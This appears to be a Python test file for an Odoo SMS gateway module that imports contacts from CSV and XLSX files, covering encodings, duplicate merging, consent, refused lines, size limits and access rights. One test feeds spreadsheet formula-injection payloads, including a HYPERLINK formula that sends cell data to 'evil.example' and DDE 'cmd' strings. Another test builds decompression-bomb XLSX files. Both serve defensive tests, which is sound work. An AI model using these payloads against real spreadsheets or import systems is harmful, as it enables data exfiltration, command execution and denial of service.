# Copyright 2026 sms_gateway authors
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""Importing contacts into an SMS group from CSV and XLSX files."""

import base64
import io
import zipfile

import openpyxl

from odoo.exceptions import AccessError, UserError
from odoo.tests import tagged

from .test_group import SmsGatewayGroupCase


@tagged("post_install", "-at_install", "sms_gateway_group")
class TestSmsGatewayGroupImport(SmsGatewayGroupCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.import_group = (
            cls.env["sms.gateway.group"]
            .with_user(cls.owner)
            .create({"name": "Imported"})
            .with_env(cls.env)
        )
        cls.existing = cls.env["res.partner"].create(
            {
                "name": "Existing Eero",
                "mobile": "+358401110001",
                "sms_consent": "granted",
            }
        )
        cls.by_email = cls.env["res.partner"].create(
            {"name": "Email Emma", "email": "emma@example.com"}
        )

    def _wizard(self, data, filename="contacts.csv", user=None, **values):
        return (
            self.env["sms.gateway.group.import"]
            .with_user(user or self.owner)
            .create(
                dict(
                    {
                        "group_id": self.import_group.id,
                        "file": base64.b64encode(data),
                        "filename": filename,
                    },
                    **values,
                )
            )
        )

    def _import(self, data, filename="contacts.csv", **values):
        wizard = self._wizard(data, filename, **values)
        wizard.action_import()
        return wizard

    def _report_rows(self, wizard):
        """The rows of the report file, as a spreadsheet reads them."""
        workbook = openpyxl.load_workbook(
            io.BytesIO(base64.b64decode(wizard.report_file))
        )
        return [
            [cell.value for cell in row] for row in workbook.worksheets[0].iter_rows()
        ]

    def _members(self):
        return {
            m.partner_id.name: m
            for m in self.env["sms.gateway.group.member"].search(
                [("group_id", "=", self.import_group.id)]
            )
        }

    def _state(self):
        """What a refused file must leave unchanged."""
        return (
            self.env["res.partner"].with_context(active_test=False).search_count([]),
            self.env["sms.gateway.group.member"].search_count([]),
        )

    # ------------------------------------------------------------------
    # Encodings and separators
    # ------------------------------------------------------------------

    def test_utf8_with_bom_and_commas(self):
        data = (
            "\ufeffName,Mobile,Email,Note\n"
            "Matti Meikäläinen,050 711 0001,matti@example.com,Vapaaehtoinen\n"
            '"Öljy, Ärrä",+358 50 711 0002,,\n'
        ).encode()
        wizard = self._import(data)
        self.assertTrue(wizard.is_imported)
        self.assertEqual((wizard.line_count, wizard.created_count), (2, 2))
        members = self._members()
        self.assertEqual(set(members), {"Matti Meikäläinen", "Öljy, Ärrä"})
        matti = members["Matti Meikäläinen"]
        self.assertEqual(matti.note, "Vapaaehtoinen")
        self.assertEqual(matti.partner_id.sms_number, "+358507110001")
        self.assertEqual(matti.partner_id.sms_consent, "unknown")
        self.assertEqual(matti.partner_id.sms_consent_source, "import")
        self.assertEqual(matti.partner_id.email, "matti@example.com")

    def test_utf8_without_bom_and_semicolons(self):
        data = "name;mobile\nJyväskylän Jussi;0507110003\n".encode()
        self._import(data)
        self.assertIn("Jyväskylän Jussi", self._members())

    def test_cp1250_polish_names(self):
        data = (
            "name;mobile;email;note\n"
            "Łukasz Wiśniewski;+48 601 711 001;lukasz@example.pl;Zażółć gęślą jaźń\n"
            "Żaneta Ćwik;48601711002;;Śląsk\n"
        ).encode("cp1250")
        wizard = self._import(data)
        self.assertEqual(wizard.created_count, 2)
        members = self._members()
        self.assertEqual(set(members), {"Łukasz Wiśniewski", "Żaneta Ćwik"})
        self.assertEqual(members["Łukasz Wiśniewski"].note, "Zażółć gęślą jaźń")
        self.assertEqual(members["Żaneta Ćwik"].partner_id.sms_number, "+48601711002")

    def test_cp1252_swedish_and_finnish_names(self):
        data = (
            "name;mobile;note\n"
            "Åsa Öberg;+46 76 711 00 01;Göteborg\n"
            "Jörgen Ångström;+46 76 711 00 02;\n"
            "Päivi Hämäläinen;050 711 0004;Hämeenlinna\n"
        ).encode("cp1252")
        wizard = self._import(data)
        self.assertEqual(wizard.created_count, 3)
        members = self._members()
        self.assertEqual(
            set(members), {"Åsa Öberg", "Jörgen Ångström", "Päivi Hämäläinen"}
        )
        self.assertEqual(members["Åsa Öberg"].note, "Göteborg")

    def test_xlsx(self):
        workbook = openpyxl.Workbook()
        sheet = workbook.active
        sheet.append(["name", "mobile", "email", "note", "consent"])
        sheet.append(
            ["Excel Elina", 358507110005, "elina@example.com", "xlsx", "granted"]
        )
        sheet.append(["Excel Eino", "050 711 0006", None, None, None])
        buffer = io.BytesIO()
        workbook.save(buffer)
        wizard = self._import(buffer.getvalue(), "contacts.xlsx")
        self.assertEqual(wizard.created_count, 2)
        elina = self._members()["Excel Elina"].partner_id
        self.assertEqual(elina.sms_number, "+358507110005")
        self.assertEqual(elina.sms_consent, "granted")
        self.assertTrue(elina.sms_consent_date)
        self.assertEqual(elina.sms_consent_source, "import")

    # ------------------------------------------------------------------
    # Matching, merging, consent
    # ------------------------------------------------------------------

    def test_match_by_mobile_then_email_and_merge_duplicates(self):
        data = (
            b"name,mobile,email,note,consent\n"
            b"Eero (file),040 111 0001,,known by number,refused\n"
            b"Emma (file),040 111 0002,Emma@Example.com,known by email,\n"
            b"Dup Dora,040 222 0001,,first note,\n"
            b"Dora again,+358 40 222 0001,dora@example.com,second note,\n"
            b"Only Email,,emma@example.com,,\n"
        )
        wizard = self._import(data, default_consent="granted")
        self.assertEqual(wizard.refused_count, 0)
        self.assertEqual(wizard.created_count, 1)
        self.assertEqual(wizard.merged_count, 1)
        self.assertEqual(wizard.added_count, 3)
        members = self._members()
        self.assertEqual(set(members), {"Existing Eero", "Email Emma", "Dup Dora"})
        self.assertEqual(members["Existing Eero"].note, "known by number")
        self.assertEqual(members["Email Emma"].note, "known by email")
        dora = members["Dup Dora"]
        self.assertEqual(dora.note, "first note")
        self.assertEqual(dora.partner_id.email, "dora@example.com")
        self.assertEqual(dora.partner_id.sms_consent, "granted")
        # existing contacts keep their consent, and the report says so
        self.assertEqual(self.existing.sms_consent, "granted")
        eero_line = wizard.line_ids.filtered(lambda li: li.line_number == 2)
        self.assertEqual(eero_line.result, "matched_mobile")
        self.assertIn("kept", eero_line.message)
        merged = wizard.line_ids.filtered(lambda li: li.result == "merged")
        self.assertEqual(merged.line_number, 5)
        self.assertIn("line 4", merged.message)
        report = self._report_rows(wizard)
        self.assertEqual(len(report), 6)  # header + every line
        self.assertTrue(wizard.report_filename.endswith("-report.xlsx"))

    def test_reimport_updates_notes_not_duplicates(self):
        self._import(b"name,mobile,note\nRe Riku,0401113333,old\n")
        wizard = self._import(b"name,mobile,note\nRe Riku,0401113333,new\n")
        self.assertEqual((wizard.added_count, wizard.already_count), (0, 1))
        self.assertEqual(self._members()["Re Riku"].note, "new")

    def test_refused_lines_are_reported_with_reasons(self):
        long_note = "n" * 256
        data = (
            "name,mobile,email,note,consent\n"
            "Good Guy,040 333 0001,,,\n"
            "Bad Number,12,,,\n"
            ",040 333 0002,,,\n"
            f"Long Note,040 333 0003,,{long_note},\n"
            "Bad Mail,040 333 0004,not-an-email,,\n"
            "Odd Consent,040 333 0005,,,maybe\n"
            "Too,040 333 0006,,,,extra\n"
            "No Contact Info,,,,\n"
            "Unknown Email,,nobody@example.com,,\n"
            "Landline Lauri,09 333 0007,,,\n"
        ).encode()
        wizard = self._import(data)
        self.assertTrue(wizard.is_imported)
        self.assertEqual(wizard.refused_count, 8)
        self.assertEqual(set(self._members()), {"Good Guy", "Landline Lauri"})
        messages = {
            line.line_number: line.message
            for line in wizard.line_ids
            if line.result == "refused"
        }
        expected = {
            3: "Invalid number",
            4: "Missing name",
            5: "Note too long: 256",
            6: "Invalid email",
            7: "Unknown consent",
            8: "6 cells",
            9: "No mobile number and no email",
            10: "no contact has this email",
        }
        self.assertEqual(set(messages), set(expected))
        for number, text in expected.items():
            self.assertIn(text, messages[number])
        landline = wizard.line_ids.filtered(lambda li: li.line_number == 11)
        self.assertIn("not a mobile number", landline.message)
        self.assertIn("8 lines refused", wizard.summary)

    def test_all_or_nothing(self):
        before = self._state()
        data = b"name,mobile\nFine Fanny,040 444 0001\nBroken,abc\n"
        wizard = self._import(data, all_or_nothing=True)
        self.assertFalse(wizard.is_imported)
        self.assertEqual(self._state(), before)
        self.assertIn("Nothing was imported", wizard.summary)
        self.assertEqual(wizard.line_ids.mapped("line_number"), [3])
        # the same file imports the good line without the option
        wizard = self._import(data)
        self.assertEqual(set(self._members()), {"Fine Fanny"})

    def test_opted_out_number_is_flagged(self):
        self.env["phone.blacklist"].sudo().add("+358404440009")
        wizard = self._import(b"name,mobile,consent\nOut Otto,040 444 0009,granted\n")
        otto = self._members()["Out Otto"].partner_id
        self.assertEqual(otto.sms_consent, "refused")
        self.assertIn("opt-out list", wizard.line_ids.message)

    # ------------------------------------------------------------------
    # Bad files: a clear message, nothing changed
    # ------------------------------------------------------------------

    def test_bad_files_change_nothing(self):
        png = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8
        garbage = bytes((i * 7919) % 256 for i in range(5000))
        big = b"name,mobile\n" + b"Big Bertta,0401234567\n" * (20 * 1024 * 1024 // 22)
        cases = [
            (b"", "contacts.csv", "empty"),
            (b"\xef\xbb\xbf\r\n  \n", "contacts.csv", "empty"),
            (b"name,mobile,email,note\n", "contacts.csv", "no contact lines"),
            (b"name;mobile\n;;\n", "contacts.csv", "no contact lines"),
            (b"name,mobile,birthday\nA,0401234567,1.1.\n", "c.csv", '"birthday"'),
            (b"name,email\nA,a@example.com\n", "contacts.csv", "mobile"),
            (b"name,mobile,name\nA,0401,B\n", "contacts.csv", "more than once"),
            (png, "contacts.csv", "PNG"),
            (garbage, "contacts.csv", "CSV or XLSX"),
            (b"PK\x03\x04not really a zip", "contacts.xlsx", "XLSX"),
            (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "old.xls", ".xls"),
            (big, "big.csv", "MB"),
        ]
        before = self._state()
        for data, filename, text in cases:
            with self.subTest(text=text, filename=filename):
                wizard = self._wizard(data, filename)
                with self.assertRaises(UserError) as caught:
                    wizard.action_import()
                self.assertIn(text, str(caught.exception))
                self.assertEqual(self._state(), before)
        wizard = (
            self.env["sms.gateway.group.import"]
            .with_user(self.owner)
            .create({"group_id": self.import_group.id})
        )
        with self.assertRaisesRegex(UserError, "Choose a CSV"):
            wizard.action_import()

    def test_report_never_runs_a_formula(self):
        payloads = [
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ]
        quoted = [payload.replace('"', '""') for payload in payloads]
        data = "name,mobile,email,note\n" + "".join(
            f'"{payload}",040 333 00{i:02d},,"{payload}"\n'
            for i, payload in enumerate(quoted)
        )
        data += '"=1+1",=1+1,=1+1@example.com,\n'
        wizard = self._import(data.encode())
        raw = base64.b64decode(wizard.report_file)
        with zipfile.ZipFile(io.BytesIO(raw)) as archive:
            sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        self.assertNotIn("<f>", sheet_xml)
        self.assertNotIn("<f ", sheet_xml)
        workbook = openpyxl.load_workbook(io.BytesIO(raw))
        cells = [
            cell
            for row in workbook.worksheets[0].iter_rows(min_row=2)
            for cell in row
            if cell.value is not None
        ]
        self.assertTrue(cells)
        self.assertTrue(all(cell.data_type in ("s", "n") for cell in cells))
        names = [row[1] for row in self._report_rows(wizard)[1:]]
        # the values are kept as they were typed, only never as formulas
        self.assertEqual(names[: len(payloads)], [p.strip() for p in payloads])
        self.assertEqual(names[-1], "=1+1")
        mobiles = [row[2] for row in self._report_rows(wizard)[1:]]
        self.assertEqual(mobiles[-1], "=1+1")

    def test_oversized_xlsx_gets_a_clear_message_and_imports_nothing(self):
        def workbook(sheet_xml, shared_xml=None):
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
                archive.writestr(
                    "xl/workbook.xml",
                    '<workbook xmlns="http://schemas.openxmlformats.org/'
                    'spreadsheetml/2006/main" xmlns:r="http://schemas.'
                    'openxmlformats.org/officeDocument/2006/relationships">'
                    '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets>'
                    "</workbook>",
                )
                rels = (
                    '<Relationships xmlns="http://schemas.openxmlformats.org/'
                    'package/2006/relationships"><Relationship Id="rId1" Type="'
                    "http://schemas.openxmlformats.org/officeDocument/2006/"
                    'relationships/worksheet" Target="worksheets/sheet1.xml"/>'
                )
                if shared_xml is not None:
                    rels += (
                        '<Relationship Id="rId2" Type="http://schemas.openxmlformats'
                        '.org/officeDocument/2006/relationships/sharedStrings" '
                        'Target="sharedStrings.xml"/>'
                    )
                    with archive.open("xl/sharedStrings.xml", "w") as part:
                        for chunk in shared_xml:
                            part.write(chunk)
                archive.writestr(
                    "xl/_rels/workbook.xml.rels", rels + "</Relationships>"
                )
                with archive.open("xl/worksheets/sheet1.xml", "w") as part:
                    for chunk in sheet_xml:
                        part.write(chunk)
            return buffer.getvalue()

        main = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        header = b'<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'

        def bomb():
            yield b"<sst>"
            block = b"<si><t>" + b"x" * 30000 + b"</t></si>"
            for _ in range(200 * 1024 * 1024 // len(block)):
                yield block
            yield b"</sst>"

        def empty_rows():
            yield main + b"<sheetData>" + header
            yield b"".join(b'<row r="%d"/>' % i for i in range(2, 1_000_002))
            yield b"</sheetData></worksheet>"

        cases = [
            (workbook([main, b"<sheetData/></worksheet>"], bomb()), "unpacks to"),
            (workbook(empty_rows()), "counting the empty ones"),
            (
                workbook(
                    [
                        main + b"<sheetData>" + header,
                        (
                            b'<row r="2"><c r="XFD2" t="inlineStr"><is><t>x</t>'
                            b"</is></c></row></sheetData></worksheet>"
                        ),
                    ]
                ),
                "beyond column",
            ),
        ]
        # the limit meant for each file, not the time limit of a busy machine
        self.env["ir.config_parameter"].sudo().set_param(
            "sms_gateway.group_import_max_seconds", "600"
        )
        before = self._state()
        for data, text in cases:
            with self.subTest(text=text):
                self.assertLess(len(data), 10 * 1024 * 1024)  # under the upload limit
                with self.assertRaisesRegex(UserError, text) as caught:
                    self._import(data, "bomb.xlsx")
                self.assertIn("Nothing was imported", str(caught.exception))
                self.assertEqual(self._state(), before)

    def test_read_time_limit(self):
        self.env["ir.config_parameter"].sudo().set_param(
            "sms_gateway.group_import_max_seconds", "0"
        )
        data = b"name,mobile\n" + b"Slow Sam,0401234567\n" * 10000
        before = self._state()
        with self.assertRaisesRegex(UserError, "took more than 0 seconds"):
            self._import(data)
        self.assertEqual(self._state(), before)

    def test_too_many_lines(self):
        self.env["ir.config_parameter"].sudo().set_param(
            "sms_gateway.group_import_max_lines", "3"
        )
        data = b"name,mobile\n" + b"".join(
            b"L%d,04055500%02d\n" % (i, i) for i in range(4)
        )
        before = self._state()
        with self.assertRaisesRegex(UserError, "more than 3 lines"):
            self._import(data)
        self.assertEqual(self._state(), before)

    # ------------------------------------------------------------------
    # Access
    # ------------------------------------------------------------------

    def test_only_editors_import(self):
        data = b"name,mobile\nSneaky Sam,040 666 0001\n"
        before = self._state()
        with self.assertRaises(AccessError):
            self._import(data, user=self.stranger)
        self.import_group.shared_user_ids = self.colleague
        with self.assertRaises(AccessError):
            self._import(data, user=self.colleague)
        self.assertEqual(self._state(), before)
        self.import_group.shared_can_edit = True
        # the colleague may edit the group but not create contacts
        wizard = self._import(data, user=self.colleague)
        self.assertEqual(wizard.refused_count, 1)
        self.assertIn("Contact Creation", wizard.line_ids.message)
        wizard = self._import(b"name,mobile\nEero,+358401110001\n", user=self.colleague)
        self.assertEqual(wizard.added_count, 1)
        self.assertIn("Existing Eero", self._members())
